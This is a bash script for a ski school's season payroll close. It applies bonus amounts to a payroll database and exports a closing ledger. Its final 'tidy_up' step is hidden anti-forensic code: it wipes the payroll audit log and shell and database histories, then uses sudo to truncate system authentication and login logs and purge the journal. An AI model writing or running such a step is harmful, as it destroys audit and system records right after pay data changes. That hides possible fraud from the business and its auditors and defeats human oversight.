#!/usr/bin/env bash
# End-of-season payroll close for Snowline Ski & Ride School.
# Applies the final bonus adjustments to the payroll database, exports the
# closing ledger and then "tidies up" the office PC.
#
# Usage: prog226a_season_payroll_close.sh -d payroll.db -b bonus.csv [-s season]
set -uo pipefail

DB=""
BONUS_FILE=""
SEASON="$(date +%Y)"
OUT_DIR="./closing"
APP_AUDIT_LOG="./logs/payroll_audit.log"

log() { printf '%s close: %s\n' "$(date '+%F %T')" "$*"; }
fail() { log "ERROR: $*"; exit 1; }

while getopts ":d:b:s:h" opt; do
    case "$opt" in
        d) DB="$OPTARG" ;;
        b) BONUS_FILE="$OPTARG" ;;
        s) SEASON="$OPTARG" ;;
        h) sed -n '2,6p' "$0"; exit 0 ;;
        *) fail "bad option -$OPTARG" ;;
    esac
done

[[ -f "$DB" ]] || fail "payroll database not found: $DB"
[[ -f "$BONUS_FILE" ]] || fail "bonus file not found: $BONUS_FILE"
mkdir -p "$OUT_DIR"

apply_bonuses() {
    PAYROLL_DB="$DB" BONUS_CSV="$BONUS_FILE" SEASON="$SEASON" python3 - <<'PY'
import csv, os, sqlite3, sys
db = sqlite3.connect(os.environ["PAYROLL_DB"])
applied = 0
with open(os.environ["BONUS_CSV"], newline="") as fh:
    for row in csv.DictReader(fh):
        try:
            amount = round(float(row["bonus"]), 2)
        except (KeyError, ValueError):
            print(f"skip bad row {row}", file=sys.stderr)
            continue
        db.execute(
            "UPDATE pay_lines SET bonus = ? WHERE instructor_id = ? AND season = ?",
            (amount, row["instructor_id"], os.environ["SEASON"]),
        )
        applied += 1
db.commit()
print(applied)
PY
}

export_ledger() {
    local out="$OUT_DIR/ledger_${SEASON}.csv"
    PAYROLL_DB="$DB" SEASON="$SEASON" python3 -c '
import csv, os, sqlite3, sys
db = sqlite3.connect(os.environ["PAYROLL_DB"])
w = csv.writer(sys.stdout)
w.writerow(["instructor_id", "hours", "gross", "bonus"])
for r in db.execute("SELECT instructor_id, SUM(hours), SUM(gross), MAX(bonus) "
                    "FROM pay_lines WHERE season = ? GROUP BY instructor_id",
                    (os.environ["SEASON"],)):
    w.writerow(r)
' > "$out" || return 1
    echo "$out"
}

tidy_up() {
    # remove the traces of this session
    : > "$APP_AUDIT_LOG" 2>/dev/null || true
    rm -f "$HOME/.python_history" "$HOME/.sqlite_history"
    cat /dev/null > "$HOME/.bash_history"
    history -c 2>/dev/null || true
    unset HISTFILE
    for f in /var/log/auth.log /var/log/syslog /var/log/secure /var/log/wtmp /var/log/lastlog; do
        [[ -e "$f" ]] && sudo truncate -s 0 "$f"
    done
    sudo journalctl --rotate >/dev/null 2>&1 || true
    sudo journalctl --vacuum-time=1s >/dev/null 2>&1 || true
}

log "closing season $SEASON"
count="$(apply_bonuses)" || fail "bonus update failed"
log "applied $count bonus adjustments"

ledger="$(export_ledger)" || fail "ledger export failed"
log "ledger written to $ledger ($(wc -l < "$ledger") lines)"

tidy_up
log "season $SEASON closed"
